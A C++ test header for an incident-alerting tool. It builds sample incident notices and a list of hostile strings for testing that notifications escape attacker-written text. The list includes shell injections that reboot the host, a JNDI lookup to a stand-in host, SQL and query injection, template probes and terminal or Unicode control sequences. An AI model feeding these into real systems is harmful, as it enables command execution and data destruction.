#pragma once

#include "responders/incident_notice.h"

#include <array>
#include <string>
#include <string_view>

namespace alarum::test {

/// An incident as it is told of.
inline IncidentNotice plain_notice() {
  IncidentNotice out;
  out.incident_id = "0123456789abcdef0123456789abcdef";
  out.action_id = "fedcba9876543210fedcba9876543210";
  out.title = "Encoded PowerShell";
  out.level = "high";
  out.state = "new";
  out.alerts = 1500;
  out.opened = parse_time("2026-01-02T03:04:06.5Z");
  out.first_event_time = parse_time("2026-01-02T03:04:05Z");
  out.last_event_time = parse_time("2026-01-02T04:00:00Z");
  out.entities = {{"host.name", "ws-17"}, {"source.ip", "10.0.0.1"}};
  out.rule_ids = {"11111111-1111-4111-8111-111111111111"};
  out.link = "https://alarum.example.org/incidents/0123456789abcdef0123456789abcdef";
  out.text = "Seen on two hosts.\nCall the owner.";
  return out;
}

/// The same, with this text in every place that others write.
inline IncidentNotice notice_with(std::string_view text) {
  IncidentNotice out = plain_notice();
  out.title = out.level = out.state = out.verdict = out.link = out.text = text;
  out.entities = {{std::string(text), std::string(text)}};
  out.rule_ids = {std::string(text)};
  return out;
}

/// What attackers write into logs, hoping that somebody obeys it.
inline const std::array<std::string, 16> hostile_texts = {
    "\"quotes\" and \\backslashes\\",
    "two\nlines\r\n\tand more",
    "\x1B[2J\x1B]0;title\x07",
    "\u202Eevil\u2066\u2069\u2028\u2029",
    "*bold* _italic_ ~gone~ `code` ```block```",
    "<!channel> <@U0123> <https://evil.example|click> &lt;&amp;",
    ":smile: https://evil.example/ www.evil.example",
    "# heading\n* item\n> quote\n---\n[a](https://evil.example)",
    "h1. heading\nbq. quote\n{noformat}{code}{panel}{color:red}",
    "[link|https://evil.example] [~admin] !image.png! ||head|| ABC-1 @admin",
    "$(reboot) `reboot` ; reboot | reboot && reboot",
    "{{7*7}} ${jndi:ldap://evil} %s %n <%= 1 %>",
    "'; DROP TABLE incidents; --",
    "\" OR project = OTHER OR summary ~ \"x",
    std::string("nul\0and \xFF\xFE\xED\xA0\x80 bytes", 19),
    "a: b\n- c: &d [*d, !!e]",
};

}  // namespace alarum::test
